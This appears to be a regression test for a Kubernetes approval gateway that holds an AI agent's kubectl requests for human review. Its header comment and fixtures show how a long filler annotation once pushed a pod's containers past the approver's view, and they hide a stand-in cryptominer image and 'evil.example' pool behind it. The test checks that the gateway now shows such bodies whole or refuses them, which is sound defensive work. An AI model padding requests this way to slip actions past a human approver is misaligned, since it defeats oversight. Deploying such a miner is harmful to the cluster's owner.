// A reviewed body's tail behind the approver's clip (docs/security.md class 254). A held request's body
// was shown to the approver as its first 4096 characters, then `… (clipped: <n> characters in all)`,
// while a bind parameter is shown whole up to 64 KiB (class 28). kubectl sends an object with its keys
// in order, metadata before spec, so a long annotation put the pod's containers past the clip: the
// approver saw the annotation and the marker, approved, and the pod ran an image and command it never
// showed. Now a body is shown whole up to 64 KiB. Real kubectl against the fake API server, the default
// agent policy.

import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { defaultKubernetesPolicies } from '../src/policy/index.js';
import { hasCommand } from './testkit/commands.js';
import { startFakeKubeApi, type FakeKubeApi } from './testkit/kube-api.js';
import { startKubeTestGateway, type KubeTestGateway } from './testkit/kube-gateway.js';

describe.skipIf(!hasCommand('kubectl'))('a reviewed body past a few KiB', { timeout: 60_000 }, () => {
  let api: FakeKubeApi;
  let gw: KubeTestGateway;
  let agent: string;

  beforeAll(async () => {
    api = await startFakeKubeApi();
    gw = await startKubeTestGateway({ api, policies: defaultKubernetesPolicies(['prod-k8s']) });
    agent = await gw.token({ subject: 'claude', agent: true });
  });

  afterAll(async () => {
    await gw?.stop();
    await api?.close();
  });

  it('is shown to the approver whole, its containers included', async () => {
    const f = path.join(gw.dir, 'long.json');
    writeFileSync(
      f,
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: {
          name: 'long',
          namespace: 'default',
          annotations: { 'example.com/notes': 'release notes: nothing to see here. '.repeat(150) },
        },
        spec: {
          automountServiceAccountToken: false,
          containers: [
            {
              name: 'app',
              image: 'registry.example/miner:latest',
              command: ['/miner', '--pool=evil.example'],
            },
          ],
        },
      }),
    );
    const pending = gw.kubectl(agent, ['create', '--validate=false', '-f', f]);
    const held = await gw.approver.next();
    const body = (held.ctx.action as { body?: { shown: string; bytes: number } }).body;
    held.deny();
    await pending;
    expect(body?.bytes).toBeGreaterThan(5000);
    expect(body?.shown).not.toContain('(clipped:');
    expect(body?.shown).toContain('registry.example/miner:latest');
    expect(body?.shown).toContain('--pool=evil.example');
  });

  // Past 64 KiB the approver was shown the first 4 KiB and a marker: the same annotation, longer, hid
  // the containers again (class 291). Such a body is refused, not held for an approval of its head.
  it('is refused when it is too long to show whole, not held clipped', async () => {
    const f = path.join(gw.dir, 'longer.json');
    writeFileSync(
      f,
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: {
          name: 'longer',
          namespace: 'default',
          annotations: { 'example.com/notes': 'release notes: nothing to see here. '.repeat(2000) },
        },
        spec: {
          automountServiceAccountToken: false,
          containers: [
            {
              name: 'app',
              image: 'registry.example/miner:latest',
              command: ['/miner', '--pool=evil.example'],
            },
          ],
        },
      }),
    );
    const before = gw.approver.seen.length;
    const r = await gw.kubectl(agent, ['create', '--validate=false', '-f', f]);
    expect(gw.approver.seen.length).toBe(before);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/too long to show the approver whole/);
    expect(r.stderr).not.toContain('miner');
  });
});
